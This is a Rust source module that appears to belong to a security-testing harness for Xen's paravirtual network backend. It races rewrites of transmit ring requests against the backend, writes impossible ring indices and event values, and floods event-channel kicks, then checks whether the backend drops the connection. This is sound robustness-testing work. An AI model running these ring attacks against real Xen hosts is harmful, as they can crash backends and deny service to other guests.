//! The rings' memory and their events.

use alloc::format;
use alloc::string::String;
use core::time::Duration;

use xen::time;
use xen_sys::netif::TxRequest;
use xen_sys::ring::SringHeader;

use super::Attack;
use crate::Result;
use crate::frame::{self, BROADCAST, EXPERIMENT, Random};
use crate::vif::state;

/// Words of the ring's page before its slots, and of a slot of the transmit ring.
const HEADER: usize = size_of::<SringHeader>() / 4;
const SLOT: usize = 3;
/// Words of the header.
const REQ_PROD: usize = 0;
const REQ_EVENT: usize = 1;
const RSP_EVENT: usize = 3;

/// Rewrites requests while they are read. `valid`: only from one good form to another, so that no
/// check alone closes the port.
pub(super) async fn change(attack: &Attack<'_>, valid: bool) -> Result<String> {
    let mut front = attack.connect().await?;
    front.offer(0, 256);
    let good = frame::ethernet(BROADCAST, attack.vif.mac, EXPERIMENT, &[0x5a; 1000]);
    let short = front.request(0, &good);
    let mut random = Random::new(time::now().as_nanos());
    let (mut rounds, mut rewrites) = (0u32, 0u64);
    while attack.goes_on() {
        let free = front.tx.free();
        let first = front.tx.next_slot();
        for _ in 0..free.min(200) {
            front.put(&[short]);
        }
        front.kick();
        let page = front.tx.page();
        for _ in 0..20_000 {
            let dice = random.next();
            let slot = (first as usize + (dice >> 8) as usize % 200) % 256;
            let [offset, size, flags] = match dice & 3 {
                _ if !valid => [(dice >> 16) as u16, (dice >> 32) as u16, (dice >> 48) as u16],
                0 => [0, 1014, 0],
                1 => [3000, 1000, 0],
                2 => [0, 60, 1],
                _ => [2, 4094, 2],
            };
            let gref = TxRequest::from_slot(short).gref;
            let octets = TxRequest { gref, offset, flags, id: slot as u16, size }.to_slot();
            for (word, bytes) in octets.as_chunks::<4>().0.iter().enumerate() {
                page.poke(HEADER + slot * SLOT + word, u32::from_le_bytes(*bytes));
            }
            rewrites += 1;
        }
        rounds += 1;
        front.settle(Duration::from_millis(300)).await?;
        if attack.vif.backend_state().await != state::CONNECTED {
            break;
        }
    }
    Ok(format!("rounds {rounds}, rewrites {rewrites}, {}", front.told()))
}

/// Impossible indices.
pub(super) async fn index(attack: &Attack<'_>, how: &str) -> Result<String> {
    let mut front = attack.connect().await?;
    front.offer(0, 64);
    let good = frame::ethernet(BROADCAST, attack.vif.mac, EXPERIMENT, &[0x5a; 100]);
    for index in 0..10 {
        front.send_frame(index, &good);
    }
    front.settle(Duration::from_secs(1)).await?;
    let (tx, rx) = (front.tx.page(), front.rx.page());
    let (tx_prod, rx_prod) = (tx.peek(REQ_PROD), rx.peek(REQ_PROD));
    match how {
        "beyond" => tx.poke(REQ_PROD, tx_prod.wrapping_add(257)),
        "back" => tx.poke(REQ_PROD, tx_prod.wrapping_sub(5)),
        "max" => tx.poke(REQ_PROD, tx_prod.wrapping_add(u32::MAX / 2)),
        "rx-beyond" => rx.poke(REQ_PROD, rx_prod.wrapping_add(1000)),
        "rx-back" => rx.poke(REQ_PROD, rx_prod.wrapping_sub(1000)),
        "events" => {
            for round in 0..1000u32 {
                for page in [tx, rx] {
                    page.poke(REQ_EVENT, round.wrapping_mul(0x9e37_79b9));
                    page.poke(RSP_EVENT, round.wrapping_mul(0x85eb_ca6b));
                }
                front.kick();
            }
        }
        _ => return Err(format!("there is no attack ring-index-{how}")),
    }
    // Whoever looks at either ring now does: a kick, and somebody's answer to us.
    let ask = frame::arp_request(attack.vif.mac, attack.settings.me, attack.settings.peer);
    for index in 0..20 {
        front.kick();
        if how.starts_with("rx-") {
            front.send_frame(index, &ask);
        }
        time::sleep(Duration::from_millis(20)).await;
    }
    Ok(front.told())
}

/// Rings in a tight loop.
pub(super) async fn storm(attack: &Attack<'_>) -> Result<String> {
    let front = attack.connect().await?;
    let mut rung = 0u64;
    while attack.goes_on() {
        for _ in 0..1000 {
            front.kick();
        }
        rung += 1000;
    }
    Ok(format!("rung {rung}, {}", front.told()))
}
